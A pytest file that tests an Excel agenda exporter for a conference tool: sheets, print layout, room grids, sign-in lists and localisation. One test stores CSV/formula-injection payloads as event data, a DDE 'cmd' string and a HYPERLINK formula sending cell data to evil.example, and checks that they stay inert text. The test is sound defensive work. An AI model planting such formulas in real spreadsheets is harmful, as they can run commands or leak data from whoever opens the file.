"""Tests for the agenda workbook (forumdesk/io/agenda_xlsx.py and agenda_sheets_*.py).

Each test writes a real workbook into tmp_path and opens it again with openpyxl, the way
Excel would find it: sheets, values, merged blocks, print set-up, header and footer.
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update

from forumdesk.core.enums import RegistrationStatus, Role, SessionKind
from forumdesk.core.errors import StorageError
from forumdesk.db.engine import Database
from forumdesk.db.models import Person
from forumdesk.io.agenda_data import AgendaData
from forumdesk.io.agenda_xlsx import PARTS, write_agenda_workbook
from forumdesk.services.agenda import load_agenda
from forumdesk.services.assignments import assign_people, register_people
from forumdesk.services.demo import DemoResult
from forumdesk.services.events import create_event
from forumdesk.services.people import create_person
from forumdesk.services.placing import schedule_sessions
from forumdesk.services.sessions import create_session
from forumdesk.services.venue import add_room, add_track

EN_SHEETS = [
    "Programme",
    "Grid Thu 25 Nov",
    "Grid Fri 26 Nov",
    "Sign-in",
    "Rooms",
    "Personal agendas",
    "People",
]


@pytest.fixture
def demo_data(db: Database, demo: DemoResult) -> AgendaData:
    return load_agenda(db, demo.event.id)


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """A folder of its own for written files (tmp_path also holds the database)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


@pytest.fixture
def demo_book(demo_data: AgendaData, out: Path) -> Path:
    path = out / "agenda.xlsx"
    result = write_agenda_workbook(demo_data, path)
    assert not result.cancelled
    return path


def _values(ws: Worksheet) -> list[tuple[object, ...]]:
    return list(ws.iter_rows(values_only=True))


def _texts(ws: Worksheet) -> list[str]:
    return [v for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]


def _row_of(ws: Worksheet, column: int, value: object) -> int:
    for row in ws.iter_rows(min_col=column, max_col=column):
        if row[0].value == value:
            return row[0].row
    raise AssertionError(f"{value!r} not found in column {column} of {ws.title}")


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


# --- the demo forum ---------------------------------------------------------------------------


def test_every_part_becomes_its_sheet_in_order(demo_book: Path) -> None:
    assert load_workbook(demo_book).sheetnames == EN_SHEETS


def test_each_sheet_is_set_up_to_print(demo_book: Path) -> None:
    book = load_workbook(demo_book)
    orientation = {
        "Programme": "landscape",
        "Grid Thu 25 Nov": "landscape",
        "Sign-in": "portrait",
        "Rooms": "landscape",
        "Personal agendas": "portrait",
        "People": "landscape",
    }
    for ws in book.worksheets:
        assert ws.page_setup.paperSize == 9, ws.title  # A4
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0, ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_area and ws.print_area.startswith(f"'{ws.title}'!$A$1:"), ws.title
        assert ws.oddHeader.left.text == "International Anti-Counterfeiting Forum 2021"
        assert ws.oddHeader.right.text == "&A"  # the sheet's name
        assert ws.oddFooter.left.text == "Printed &D"
        assert ws.oddFooter.right.text == "Page &P of &N"
        assert not ws.print_options.gridLines
        if ws.title in orientation:
            assert ws.page_setup.orientation == orientation[ws.title], ws.title
    assert book["Programme"].print_title_rows == "$3:$3"
    assert book["Grid Thu 25 Nov"].print_title_rows == "$1:$2"
    assert book["People"].print_title_rows == "$1:$1"
    assert book["Programme"].freeze_panes == "A4"
    assert book["People"].freeze_panes == "A2"
    assert not book["Programme"].sheet_view.showGridLines
    assert not book["Grid Thu 25 Nov"].sheet_view.showGridLines


def test_fonts_are_calibri_which_carries_cyrillic(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Programme"]
    fonts = {cell.font.name for row in ws.iter_rows() for cell in row if cell.value}
    assert fonts == {"Calibri"}


def test_the_programme_lists_sessions_day_by_day_with_their_people(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Programme"]
    rows = _values(ws)
    assert rows[0][0] == "International Anti-Counterfeiting Forum 2021"
    assert rows[2] == ("Time", "Code", "Session", "Room", "Moderators", "Speakers and panelists")
    first_day = _row_of(ws, 1, "Thursday, 25 November 2021")
    second_day = _row_of(ws, 1, "Friday, 26 November 2021")
    assert first_day < second_day
    s1 = _row_of(ws, 2, "S1")
    assert first_day < s1 < second_day
    time, code, title, room, moderators, speakers = rows[s1 - 1]
    assert (time, code, room) == ("13:00–14:30", "S1", "Hall A")
    assert title.startswith("Illegal Turnover of Industrial Products")
    assert "Illicit Trade & Enforcement" in title  # the track
    assert moderators == (
        "Ахметов Данияр Канатович, Ministry of Trade and Integration of the Republic of Kazakhstan"
    )
    assert speakers.splitlines()[0] == "Speakers:"
    assert "Fiona MacLeod, Highland & Co. Spirits Ltd" in speakers.splitlines()
    # in time order: each start is no earlier than the one before, within a day
    continued = "Thursday, 25 November 2021 (continued)"
    starts = [r[0][:5] for r in rows[first_day : second_day - 1] if r[0] and r[0] != continued]
    assert starts == sorted(starts)
    # the day heading spans the row, and the next day starts a new page; a page the day goes
    # on to starts under its heading, continued
    assert f"A{first_day}:F{first_day}" in {str(r) for r in ws.merged_cells.ranges}
    breaks = [b.id for b in ws.row_breaks.brk]
    assert second_day - 1 in breaks
    for row in breaks:
        if row < second_day - 1:
            assert rows[row][0] == continued
            assert f"A{row + 1}:F{row + 1}" in {str(r) for r in ws.merged_cells.ranges}


def test_breaks_and_plenaries_are_set_apart(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Programme"]
    lunch = _row_of(ws, 3, "Lunch break")
    plenary = _row_of(ws, 2, "P1")
    s1 = _row_of(ws, 2, "S1")
    assert f"C{lunch}:F{lunch}" in {str(r) for r in ws.merged_cells.ranges}
    assert ws.cell(lunch, 3).font.i
    fills = {row: ws.cell(row, 3).fill.fgColor.rgb for row in (lunch, plenary, s1)}
    assert len(set(fills.values())) == 3  # grey break, blue plenary, plain discussion
    assert ws.cell(plenary, 3).font.b


def test_row_heights_fit_wrapped_text(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Programme"]
    plenary = _row_of(ws, 2, "P1")
    lines = len(ws.cell(plenary, 6).value.splitlines())
    assert ws.row_dimensions[plenary].height >= lines * 12.75
    assert ws.cell(plenary, 6).alignment.wrap_text


def test_the_grid_shows_each_session_as_a_block_in_its_room(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Grid Thu 25 Nov"]
    heads = _values(ws)[1]
    assert heads[0] == "Time"
    assert heads[1:] == ("Plenary Hall", "Hall A", "Hall B", "Hall C", "Hall D")
    start = _row_of(ws, 1, "13:00")
    assert ws.cell(start, 3).value.splitlines()[:2] == [
        "S1 · 13:00–14:30",
        "Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures",
    ]
    assert ws.cell(start, 3).value.splitlines()[2] == "Moderators: Ахметов Данияр Канатович"
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert f"C{start}:C{start + 5}" in merged  # 90 minutes at 15 a row
    assert ws.cell(start, 3).fill.fgColor.rgb == "00F6C6C6"  # the track's colour
    lunch = _row_of(ws, 1, "12:00")
    assert ws.cell(lunch, 2).value == "Lunch break · 12:00–13:00"
    assert f"B{lunch}:F{lunch + 3}" in merged  # across all the rooms
    assert _row_of(ws, 1, "08:30") == 3


def test_the_grid_step_sets_the_rows(demo_data: AgendaData, tmp_path: Path) -> None:
    path = tmp_path / "grid.xlsx"
    write_agenda_workbook(demo_data, path, parts=["grid"], grid_step=30)
    ws = load_workbook(path)["Grid Thu 25 Nov"]
    times = [r[0] for r in _values(ws)[2:]]
    assert times[:4] == ["08:30", "09:00", "09:30", "10:00"]
    assert times[-1] == "16:00"
    start = _row_of(ws, 1, "13:00")
    assert f"C{start}:C{start + 2}" in {str(r) for r in ws.merged_cells.ranges}


def test_sign_in_sheets_give_each_session_its_page(demo_book: Path, demo_data: AgendaData) -> None:
    ws = load_workbook(demo_book)["Sign-in"]
    sessions = [s for s in demo_data.scheduled if not s.is_break]
    texts = _texts(ws)
    for session in sessions:
        assert session.heading in texts
    assert len(ws.row_breaks.brk) >= len(sessions) - 1
    s1 = _row_of(
        ws, 1, "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures"
    )
    rows = _values(ws)
    assert rows[s1] == ("Thursday, 25 November 2021, 13:00–14:30, Hall A",) + (None,) * 4
    heads = next(n for n in range(s1, len(rows)) if rows[n][4] == "Signature") + 1
    assert rows[heads - 1] == ("No.", "Name", "Organisation", "Role", "Signature")
    # the list is by family name, Latin names first on an English sheet, under letter headings
    session = next(s for s in sessions if s.code == "S1")
    people = [row for row in rows[heads:] if isinstance(row[0], int) and row[1]]
    people = people[: len(session.people)]
    assert [row[1] for row in people] == [
        link.person.display_name
        for link in sorted(
            session.people,
            key=lambda link: (
                not link.person.family_name.isascii(),
                link.person.family_name.casefold().replace("ё", "е"),
            ),
        )
    ]
    assert rows[heads][0] == people[0][1].split()[-1][0]  # a letter heading comes first
    moderator = next(row for row in people if row[1] == "Ахметов Данияр Канатович")
    assert moderator[2:] == (
        "Ministry of Trade and Integration of the Republic of Kazakhstan",
        "Moderator",
        None,  # left blank to sign
    )
    assert ws.cell(heads + 2, 5).border.bottom.style == "thin"
    # then blank numbered lines for walk-ins, numbered on from the list
    blanks = [row for row in rows[heads:] if isinstance(row[0], int) and row[1] is None]
    assert blanks[0][0] == len(session.people) + 1


def test_door_signs_give_each_room_a_page_per_day(demo_book: Path) -> None:
    ws = load_workbook(demo_book)["Rooms"]
    texts = _texts(ws)
    assert texts.count("Hall A") == 2  # both days
    assert texts.count("Hall D") == 1  # used on the first day only
    assert "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures" in texts
    hall_a = _row_of(ws, 1, "Hall A")
    assert ws.cell(hall_a, 1).font.sz >= 28
    signs = sum(1 for t in texts if t.startswith(("Plenary Hall", "Hall ")) and len(t) < 14)
    assert len(ws.row_breaks.brk) == signs - 1


def test_personal_agendas_default_to_moderators_and_speakers(
    demo_book: Path, demo_data: AgendaData
) -> None:
    ws = load_workbook(demo_book)["Personal agendas"]
    titles = {cell.value for cell in ws["A"] if cell.font.sz == 16 and cell.value}
    leading = {
        link.person.display_name
        for s in demo_data.sessions
        for link in s.people
        if link.role is not Role.PARTICIPANT
    }
    assert titles == leading
    assert len(ws.row_breaks.brk) == len(titles) - 1


def test_personal_agendas_can_cover_everyone_registered(
    demo_data: AgendaData, tmp_path: Path
) -> None:
    path = tmp_path / "all.xlsx"
    write_agenda_workbook(demo_data, path, parts=["personal"], include_all_registered=True)
    ws = load_workbook(path)["Personal agendas"]
    titles = {cell.value for cell in ws["A"] if cell.font.sz == 16 and cell.value}
    expected = {
        r.person.display_name
        for r in demo_data.registrations
        if r.status is not RegistrationStatus.CANCELLED
    }
    assert expected <= titles
    cancelled = {
        r.person.display_name
        for r in demo_data.registrations
        if r.status is RegistrationStatus.CANCELLED
    }
    holding_roles = {link.person.display_name for s in demo_data.sessions for link in s.people}
    assert not (cancelled - holding_roles) & titles


def test_a_personal_agenda_lists_the_persons_sessions_with_roles(
    demo_book: Path,
) -> None:
    ws = load_workbook(demo_book)["Personal agendas"]
    start = _row_of(ws, 1, "Oliver Grant")
    rows = _values(ws)[start - 1 :]
    end = next(
        i for i, r in enumerate(rows[1:], start=1) if r[0] and ws.cell(start + i, 1).font.sz == 16
    )
    own = {r[2]: r[4] for r in rows[:end] if r[4] and r[0] != "Date"}
    assert own == {
        (
            "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures"
        ): "Panelist",
        "S5 · Counterfeit and Falsified Goods in the EAEU Market": "Participant",
        "S10 · International Cooperation Against Counterfeiting": "Participant",
    }
    assert "Lunch break" in {r[2] for r in rows[:end]}  # what everyone attends, in grey


def test_people_is_a_filterable_table(demo_book: Path, demo_data: AgendaData) -> None:
    ws = load_workbook(demo_book)["People"]
    heads = _values(ws)[0]
    assert heads == (
        "Name",
        "Name (Latin)",
        "Organisation",
        "Country",
        "Sector",
        "E-mail",
        "Status",
        "Roles",
    )
    table = ws.tables["People"]
    assert table.ref == f"A1:H{len(demo_data.people()) + 1}"
    assert table.autoFilter is not None and table.autoFilter.ref == table.ref
    assert [c.name for c in table.tableColumns] == list(heads)
    berger = next(r for r in _values(ws) if r[0] == "Katharina Berger")
    assert berger[1:] == (
        None,  # a Latin name has no Latin form of its own to show
        "International Anti-Counterfeiting Association",
        "Germany",
        "Other",
        "k.berger@iaca.org.example",
        "Confirmed",
        "Speaker: S5; Co-moderator: S10; Moderator: P2",
    )


def test_russian_headings(demo_data: AgendaData, tmp_path: Path) -> None:
    path = tmp_path / "ru.xlsx"
    write_agenda_workbook(demo_data, path, lang="ru")
    book = load_workbook(path)
    assert book.sheetnames == [
        "Программа",
        "Сетка чт 25.11",
        "Сетка пт 26.11",
        "Регистрация",
        "Залы",
        "Личные программы",
        "Участники",
    ]
    ws = book["Программа"]
    assert _values(ws)[2] == (
        "Время",
        "Код",
        "Сессия",
        "Зал",
        "Модераторы",
        "Спикеры и участники панели",
    )
    assert _values(ws)[3][0] == "Четверг, 25 ноября 2021\u00a0г."
    assert ws.oddFooter.right.text == "Стр. &P из &N"
    assert ws.oddFooter.left.text == "Напечатано &D"


# --- hand-built events ------------------------------------------------------------------------


def _cyrillic_event(db: Database) -> int:
    event = create_event(
        db,
        "Форум «Защита & Право» 2027",
        "2027-05-12",
        "2027-05-13",
        city="Астана",
        venue="Конгресс-центр",
        timezone="Asia/Almaty",
    )
    hall = add_room(db, event.id, "Большой зал", 300)
    small = add_room(db, event.id, "Малый зал: переговорная", 40)
    track = add_track(db, event.id, "Фармацевтика", "#1F4E79")  # dark: white text
    day = dt.date(2027, 5, 12)
    at = lambda h, m=0: dt.datetime.combine(day, dt.time(h, m))  # noqa: E731
    opening = create_session(
        db,
        event.id,
        "Открытие форума",
        code="П1",
        kind=SessionKind.PLENARY,
        room_id=hall.id,
        starts_at=at(10),
        ends_at=at(11, 30),
    )
    create_session(
        db, event.id, "Кофе-брейк", kind=SessionKind.BREAK, starts_at=at(11, 30), ends_at=at(12)
    )
    panel = create_session(
        db,
        event.id,
        "Патентная защита лекарств",
        code="С1",
        track_id=track.id,
        room_id=small.id,
        starts_at=at(12),
        ends_at=at(13, 30),
    )
    people = [
        create_person(
            db,
            "Ёлкина",
            "Анна",
            "Сергеевна",
            organization="Минздрав",
            email="elkina@example.ru",
            country="Казахстан",
        ),
        create_person(
            db, "Щербаков", "Юрий", "Петрович", organization="Евразийская патентная организация"
        ),
    ]
    assign_people(db, opening.id, [people[0].id], Role.MODERATOR, expected_version=None)
    assign_people(db, panel.id, [people[1].id], Role.SPEAKER, expected_version=None)
    assign_people(db, panel.id, [people[0].id], Role.PARTICIPANT, expected_version=None)
    register_people(db, event.id, [p.id for p in people], expected_statuses=None)
    return event.id


def test_a_cyrillic_only_event_round_trips(db: Database, tmp_path: Path) -> None:
    data = load_agenda(db, _cyrillic_event(db))
    path = tmp_path / "форум.xlsx"
    write_agenda_workbook(data, path, lang="ru")
    book = load_workbook(path)
    assert book.sheetnames[:2] == ["Программа", "Сетка ср 12.05"]
    programme = _texts(book["Программа"])
    assert "Форум «Защита & Право» 2027" in programme
    assert "Патентная защита лекарств\nФармацевтика" in programme
    assert "Щербаков Юрий Петрович, Евразийская патентная организация" in programme
    assert book["Программа"].oddHeader.left.text == "Форум «Защита && Право» 2027"
    grid = book["Сетка ср 12.05"]
    assert _values(grid)[1] == ("Время", "Большой зал", "Малый зал: переговорная")
    block = grid.cell(_row_of(grid, 1, "12:00"), 3)
    assert block.value.startswith("С1 · 12:00–13:30\nПатентная защита лекарств")
    assert block.font.color.rgb == "00FFFFFF"  # readable on the dark track colour
    people = _values(book["Участники"])
    assert people[1][:3] == ("Ёлкина Анна Сергеевна", "Elkina Anna Sergeevna", "Минздрав")
    assert people[1][6:] == ("Зарегистрирован", "Модератор: П1; Участник: С1")
    personal = _texts(book["Личные программы"])
    assert "Ёлкина Анна Сергеевна" in personal  # a moderator
    assert "Сомодератор" not in personal


def test_text_that_looks_like_a_formula_stays_text(db: Database, tmp_path: Path) -> None:
    event = create_event(db, "=cmd|' /C calc'!A0", "2027-01-10", timezone="Europe/Moscow")
    room = add_room(db, event.id, "@Room")
    start = dt.datetime(2027, 1, 10, 9)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    session = create_session(
        db,
        event.id,
        evil,
        code="+1",
        room_id=room.id,
        starts_at=start,
        ends_at=start + dt.timedelta(hours=1),
    )
    person = create_person(db, "-2+3", "@admin", organization="=1+1", email="x@example.org")
    other = create_person(db, "Normal", "Person", email="n@example.org")
    # Imports store what spreadsheets held; a leading tab or CR must not slip through either.
    with db.transaction() as session_:
        session_.execute(
            update(Person)
            .where(Person.id == other.id)
            .values(display_name="\tTabbed name", position="\rCR position")
        )
    assign_people(db, session.id, [person.id], Role.MODERATOR, expected_version=None)
    assign_people(db, session.id, [other.id], Role.SPEAKER, expected_version=None)
    register_people(db, event.id, [person.id, other.id], expected_statuses=None)
    path = tmp_path / "out" / "evil.xlsx"
    path.parent.mkdir()
    write_agenda_workbook(load_agenda(db, event.id), path)
    assert _formulas(path) == []
    book = load_workbook(path)
    found = {
        cell.value: cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (evil, "+1", "@Room", "=cmd|' /C calc'!A0", "@admin -2+3", "=1+1", "\tTabbed name"):
        assert text in found, text
        assert found[text].data_type == "s"
        assert found[text].quotePrefix


def test_a_ten_hour_day_at_five_minutes(db: Database, tmp_path: Path) -> None:
    event = create_event(db, "Long day", "2027-03-01", timezone="UTC")
    rooms = [add_room(db, event.id, f"Room {n}") for n in range(1, 4)]
    day = dt.datetime(2027, 3, 1, 8)
    for n in range(20):
        start = day + dt.timedelta(minutes=30 * n)
        create_session(
            db,
            event.id,
            f"Session number {n} with a title that needs wrapping",
            code=f"L{n}",
            room_id=rooms[n % 3].id,
            starts_at=start,
            ends_at=start + dt.timedelta(minutes=5 if n % 2 else 45),
        )
    create_session(
        db,
        event.id,
        "Closing",
        code="END",
        room_id=rooms[0].id,
        starts_at=day + dt.timedelta(hours=9, minutes=55),
        ends_at=day + dt.timedelta(hours=10),
    )
    path = tmp_path / "long.xlsx"
    write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"], grid_step=5)
    ws = load_workbook(path).worksheets[0]
    assert ws.max_row == 2 + 120  # 08:00 to 18:00 in five-minute rows
    labels = [r[0] for r in _values(ws)[2:] if r[0]]
    assert labels[:3] == ["08:00", "08:15", "08:30"] and labels[-1] == "17:45"
    merged = [r for r in ws.merged_cells.ranges]
    cells = [
        (row, col)
        for r in merged
        for row in range(r.min_row, r.max_row + 1)
        for col in range(r.min_col, r.max_col + 1)
    ]
    assert len(cells) == len(set(cells))  # no block overlaps another
    short = ws.cell(_row_of(ws, 1, "08:30"), 2 + 1)
    assert short.value.startswith("L1 · 08:30–08:35")
    # a five-minute session still gets the height its text needs
    assert ws.row_dimensions[short.row].height >= 3 * 12
    assert all(ws.row_dimensions[r].height > 0 for r in range(3, ws.max_row + 1))


def test_double_booked_sessions_each_get_a_lane(db: Database, tmp_path: Path) -> None:
    event = create_event(db, "Clash", "2027-03-01", timezone="UTC")
    room = add_room(db, event.id, "Hall")
    start = dt.datetime(2027, 3, 1, 10)
    for code in ("A", "B"):
        create_session(
            db,
            event.id,
            f"Session {code}",
            code=code,
            room_id=room.id,
            starts_at=start,
            ends_at=start + dt.timedelta(hours=1),
        )
    create_session(
        db,
        event.id,
        "Roomless talk",
        code="C",
        starts_at=start,
        ends_at=start + dt.timedelta(minutes=30),
    )
    path = tmp_path / "clash.xlsx"
    write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"])
    ws = load_workbook(path).worksheets[0]
    assert _values(ws)[1] == ("Time", "Hall", None, "No room")
    assert "B2:C2" in {str(r) for r in ws.merged_cells.ranges}
    blocks = {ws.cell(3, col).value.splitlines()[0] for col in (2, 3, 4)}
    assert blocks == {"A · 10:00–11:00", "B · 10:00–11:00", "C · 10:00–10:30"}


def test_many_rooms_share_out_over_several_grid_sheets(db: Database, tmp_path: Path) -> None:
    event = create_event(db, "Big", "2027-03-01", timezone="UTC")
    start = dt.datetime(2027, 3, 1, 10)
    for n in range(1, 13):
        room = add_room(db, event.id, f"Room {n:02}")
        create_session(
            db,
            event.id,
            f"Talk {n}",
            code=f"T{n}",
            room_id=room.id,
            starts_at=start,
            ends_at=start + dt.timedelta(hours=1),
        )
    create_session(
        db,
        event.id,
        "Lunch",
        kind=SessionKind.BREAK,
        starts_at=start + dt.timedelta(hours=1),
        ends_at=start + dt.timedelta(hours=2),
    )
    path = tmp_path / "big.xlsx"
    result = write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"])
    assert result.sheets == ("Grid Mon 1 Mar (1-2)", "Grid Mon 1 Mar (2-2)")
    book = load_workbook(path)
    first, second = (_values(ws)[1] for ws in book.worksheets)
    assert first[1:] == tuple(f"Room {n:02}" for n in range(1, 7))
    assert second[1:] == tuple(f"Room {n:02}" for n in range(7, 13))
    for ws in book.worksheets:  # the break runs across each sheet's rooms
        assert "Lunch · 11:00–12:00" in _texts(ws)


def test_an_event_without_sessions_still_exports(db: Database, tmp_path: Path) -> None:
    event = create_event(db, "Empty", "2027-03-01", timezone="UTC")
    path = tmp_path / "empty.xlsx"
    result = write_agenda_workbook(load_agenda(db, event.id), path)
    assert load_workbook(path).sheetnames == [
        "Programme",
        "Grid",
        "Sign-in",
        "Rooms",
        "Personal agendas",
        "People",
    ]
    assert len(result.sheets) == len(PARTS)


# --- progress, cancel and failure -------------------------------------------------------------


def test_progress_counts_up_to_the_total(demo_data: AgendaData, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    write_agenda_workbook(
        demo_data,
        tmp_path / "p.xlsx",
        progress=lambda done, total: seen.append((done, total)) or True,
    )
    totals = {total for _, total in seen}
    assert len(totals) == 1
    assert [done for done, _ in seen] == list(range(1, totals.pop() + 1))


def test_a_failure_midway_leaves_the_previous_file_and_no_temporary_file(
    demo_data: AgendaData, out: Path
) -> None:
    path = out / "agenda.xlsx"
    write_agenda_workbook(demo_data, path, parts=["people"])
    before = path.read_bytes()

    def explode(done: int, total: int) -> bool:
        if done == 20:  # past the programme, the grids and the sign-in sheets
            raise OSError("the disk went away")
        return True

    with pytest.raises(
        StorageError, match=r"«agenda\.xlsx» could not be written: the disk went away"
    ):
        write_agenda_workbook(demo_data, path, progress=explode)
    assert path.read_bytes() == before
    assert [p.name for p in out.iterdir()] == ["agenda.xlsx"]
    assert load_workbook(path).sheetnames == ["People"]


def test_a_break_dropped_on_a_room_spans_the_grid_across_all_rooms(
    db: Database, tmp_path: Path
) -> None:
    """Issue 14, item 5: the coffee break was dropped on Hall A; it books no room, and the grid
    runs it across both halls instead of splitting Hall A's column."""
    event = create_event(db, "Forum", "2027-03-01", timezone="UTC")
    start = dt.datetime(2027, 3, 1, 10)
    halls = [add_room(db, event.id, name) for name in ("Hall A", "Hall B")]
    for n, hall in enumerate(halls, 1):
        create_session(
            db,
            event.id,
            f"Talk {n}",
            code=f"T{n}",
            room_id=hall.id,
            starts_at=start,
            ends_at=start + dt.timedelta(hours=1),
        )
    coffee = create_session(db, event.id, "Coffee", kind=SessionKind.BREAK, planned_minutes=30)
    schedule_sessions(
        db, [coffee.id], halls[0].id, start + dt.timedelta(hours=1), expected_versions=None
    )
    path = tmp_path / "grid.xlsx"
    write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"])
    ws = load_workbook(path).worksheets[0]
    assert _values(ws)[1] == ("Time", "Hall A", "Hall B")
    row = _row_of(ws, 1, "11:00")
    assert ws.cell(row, 2).value == "Coffee · 11:00–11:30"
    assert f"B{row}:C{row + 1}" in {str(r) for r in ws.merged_cells.ranges}
